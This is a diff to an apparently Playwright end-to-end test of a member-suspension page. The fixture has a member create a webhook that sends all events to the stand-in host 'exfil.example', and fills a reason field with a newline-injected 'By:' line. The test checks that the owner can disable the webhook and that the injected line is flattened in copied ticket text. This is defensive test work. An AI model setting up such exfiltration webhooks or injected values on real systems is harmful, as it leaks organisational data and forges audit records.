@@ -122,8 +122,12 @@ test('what changes while the preview is open is marked, and waits until it was s
   const { name } = (await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body
   const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'] }
   const { id: webhook } = (await mallory.call('POST /v1/governance/webhooks', { body: exfil })).body
-  await inWindow({ as: acme.owner }, async ({ page, open }) => {
+  await acme.owner.call('PUT /v1/oracle', { body: { name: 'Pythia', owner_user_id: mallory.userId } })
+  await inWindow({ as: acme.owner }, async ({ page, open, context }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
     await open(`/members/${mallory.userId}/suspend`)
+    await page.getByRole('radio', { name: 'Keep it running' }).check()
+    await page.getByRole('textbox', { name: 'Reason' }).fill('laptop stolen\nBy: Grace')
     await page.getByRole('button', { name: `Disable ${exfil.url}` }).click()
     await page.getByText('Disabled: nothing more is sent there.').waitFor()
     assert.equal((await acme.owner.call(`GET /v1/governance/webhooks/${webhook}`)).body.enabled, false)
@@ -141,6 +145,20 @@ test('what changes while the preview is open is marked, and waits until it was s
     await page.getByRole('heading', { name: `${name} is suspended` }).waitFor()
     // The receipt has it still, though nothing is left to do about it.
     await page.getByText('Disabled: nothing more is sent there.').waitFor()
+    const isIn = async (lines: readonly string[]) => {
+      await page.getByRole('button', { name: 'Copy for a ticket' }).click()
+      await page.getByRole('button', { name: 'Copied' }).waitFor()
+      const ticket = (await page.evaluate<string>('navigator.clipboard.readText()')).split('\n')
+      for (const line of lines) assert.ok(ticket.includes(line), `${line} is not in ${ticket.join('\n')}`)
+    }
+    const lines = [
+      'Reason: laptop stolen By: Grace',
+      'The Oracle: Kept running',
+      `- [x] Webhook that they made: Disable ${exfil.url}`,
+    ]
+    await isIn(lines)
+    await open(`/members/${mallory.userId}`)
+    await isIn(lines)
   })
 })
 
